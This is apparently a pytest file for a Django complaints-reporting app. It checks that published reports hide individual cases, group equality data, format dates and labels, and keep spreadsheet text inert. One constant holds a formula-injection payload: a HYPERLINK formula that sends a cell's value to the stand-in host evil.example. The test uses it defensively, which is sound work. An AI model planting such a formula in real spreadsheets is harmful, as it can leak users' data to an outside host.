"""What the report shows of its cases (issues 16 and 19): the published version lists no
single case and groups equality answers; labels, not codes; dates written out; text cells in
the workbook stay text."""

import io
import zipfile
from datetime import date
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from fairhear.casework.models import OmbudsmanCase
from fairhear.core.report import Period, financial_year_of
from fairhear.organisation.models import ServiceArea
from fairhear.reports.engine import build_report
from fairhear.reports.output import render
from fairhear.reports.render.shown import grouped_equalities
from tests.builders import complaint, cost, stage

pytestmark = pytest.mark.django_db

NBSP = "\N{NO-BREAK SPACE}"
FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Open case notes")'


def _cases(year: int) -> dict[str, Any]:
    """A Stage 2 investigation, an Ombudsman decision and equality answers, one rare."""
    area = ServiceArea.objects.create(name="Children in care")
    investigated = complaint(
        date(year, 4, 3),
        area=area,
        replied=date(year, 4, 10),
        outcome="upheld",
        ethnicity="White: English, Welsh, Scottish, Northern Irish or British",
        gender="Female",
    )
    stage(
        investigated,
        2,
        requested=date(year, 11, 2),
        responded=date(year + 1, 1, 8),
        outcome="upheld",
    )
    cost(investigated, date(year, 12, 1), "investigating_officer", "1234.56")
    for _ in range(6):
        complaint(date(year, 5, 1), ethnicity="White: Other White", gender="Male")
    complaint(date(year, 5, 2), ethnicity="Zorblaxian heritage", gender="Non-binary")
    complaint(date(year, 5, 3), ethnicity="Mixed: White and Asian", gender=" female ")
    OmbudsmanCase.objects.create(
        lgsco_reference="19 007 007",
        received=date(year, 6, 1),
        decided=date(year, 9, 1),
        decision="closed_after_initial_enquiries",
        remedies=["apology"],
    )
    return build_report(Period.financial_year(year), as_at=date(year + 1, 6, 30))


@pytest.fixture
def report() -> dict[str, Any]:
    return _cases(2019)


def _docx_text(content: bytes) -> str:
    document = Document(io.BytesIO(content))
    cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
    return "\n".join([p.text for p in document.paragraphs] + cells)


def _xlsx_text(content: bytes) -> str:
    book = load_workbook(io.BytesIO(content), read_only=True)
    return "\n".join(
        str(value)
        for sheet in book.worksheets
        for row in sheet.iter_rows(values_only=True)
        for value in row
        if value is not None
    )


def _texts(report: dict[str, Any], **options: Any) -> dict[str, str]:
    """Each rendering's text, its no-break spaces read as spaces."""
    texts = {
        "html": render(report, "html", **options).decode(),
        "docx": _docx_text(render(report, "docx", **options)),
        "xlsx": _xlsx_text(render(report, "xlsx", **options)),
    }
    return {form: text.replace(NBSP, " ") for form, text in texts.items()}


# A reference, the Ombudsman's reference and the adjudication's date (the summary tables
# keep the year's spend).
CASE_DETAILS = ("C-2019-", "19 007 007", "8 January 2020", "2020-01-08")


@pytest.mark.parametrize("form", ["html", "docx", "xlsx"])
def test_the_published_report_lists_no_single_case(report: dict[str, Any], form: str) -> None:
    published = _texts(report, published=True)[form]
    internal = _texts(report)[form]

    assert not [detail for detail in CASE_DETAILS if detail in published]
    assert "Single cases are not listed in this version" in published
    assert "19 007 007" in internal
    assert report["tables"]["stage2_cases"]["rows"]  # the JSON stays complete


@pytest.mark.parametrize("form", ["html", "docx", "xlsx"])
def test_the_published_report_groups_equality_answers(report: dict[str, Any], form: str) -> None:
    published = _texts(report, published=True)[form]

    for verbatim in ("Zorblaxian", "Non-binary", "English, Welsh", "Other White"):
        assert verbatim not in published
    assert "Ethnicity: White" in published
    assert "Ethnicity: Another answer" in published
    assert "Gender: Female" in published


def test_equality_answers_fall_into_the_census_groups_and_keep_the_table_form(
    report: dict[str, Any],
) -> None:
    grouped = grouped_equalities(report["tables"]["equalities"])

    rows = {r["key"]: r["cells"]["current"] for r in grouped["rows"]}
    assert rows["ethnicity:white"] == 7
    assert rows["ethnicity:mixed"] == 1  # "White and Asian" is Mixed, not White
    assert rows["ethnicity:another"] == 1
    assert rows["gender:female"] == 2  # " female " and "Female" are one answer
    assert rows["gender:male"] == 6
    assert rows["gender:another"] == 1
    assert rows["total"] == 9
    assert [k for k in rows if k.startswith("ethnicity:")] == [
        "ethnicity:mixed",
        "ethnicity:white",
        "ethnicity:another",
    ]  # the census order, then answers in no group
    assert grouped["columns"] == report["tables"]["equalities"]["columns"]


def test_the_internal_report_reads_labels_and_whole_dates(report: dict[str, Any]) -> None:
    html = render(report, "html").decode()

    assert "closed_after_initial_enquiries" not in html
    assert "Closed after initial enquiries" in html
    assert f"8{NBSP}January{NBSP}2020" in html  # the adjudication, never broken mid-date
    assert "2020-01-08" not in html
    assert f">19{NBSP}007{NBSP}007</th>" in html  # a reference on one line
    # Text columns read from the left, headings too; figures from the right.
    assert '<th scope="col" class="govuk-table__header">Service area</th>' in html
    assert 'govuk-table__header--numeric">Cost</th>' in html
    book = load_workbook(io.BytesIO(render(report, "xlsx")), read_only=True)
    rows = list(book["stage2_cases"].iter_rows(values_only=True))
    assert rows[3][2].date() == date(2019, 11, 2)  # a date the spreadsheet can sort


def test_the_case_lists_are_for_staff_who_see_every_case(
    client: Client, manager: User, report_viewer: User
) -> None:
    year = financial_year_of(date.today()) - 1
    _cases(year)

    def seen(user: User, *query: str) -> str:
        client.force_login(user)
        page = client.get(reverse("reports:report"), {"year": year}).content.decode()
        docx = client.get(reverse("reports:download", args=[year, "docx"])).content
        return (page + _docx_text(docx)).replace(NBSP, " ")

    assert "19 007 007" in seen(manager)
    assert "19 007 007" not in seen(report_viewer)
    assert "Single cases are not listed" in seen(report_viewer)


def test_workbook_text_that_looks_like_a_formula_stays_text() -> None:
    area = ServiceArea.objects.create(name=FORMULA)
    complaint(date(2019, 5, 1), area=area, categories=(FORMULA,), ethnicity=FORMULA)
    report = build_report(Period.financial_year(2019), as_at=date(2020, 6, 30))

    for published in (False, True):
        content = render(report, "xlsx", published=published)

        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert not [n for n in sheets if b"<f>" in archive.read(n)]
        book = load_workbook(io.BytesIO(content), read_only=True)
        labels = [row[0] for row in book["stage1_by_service_area"].iter_rows(values_only=True)]
        assert FORMULA in labels
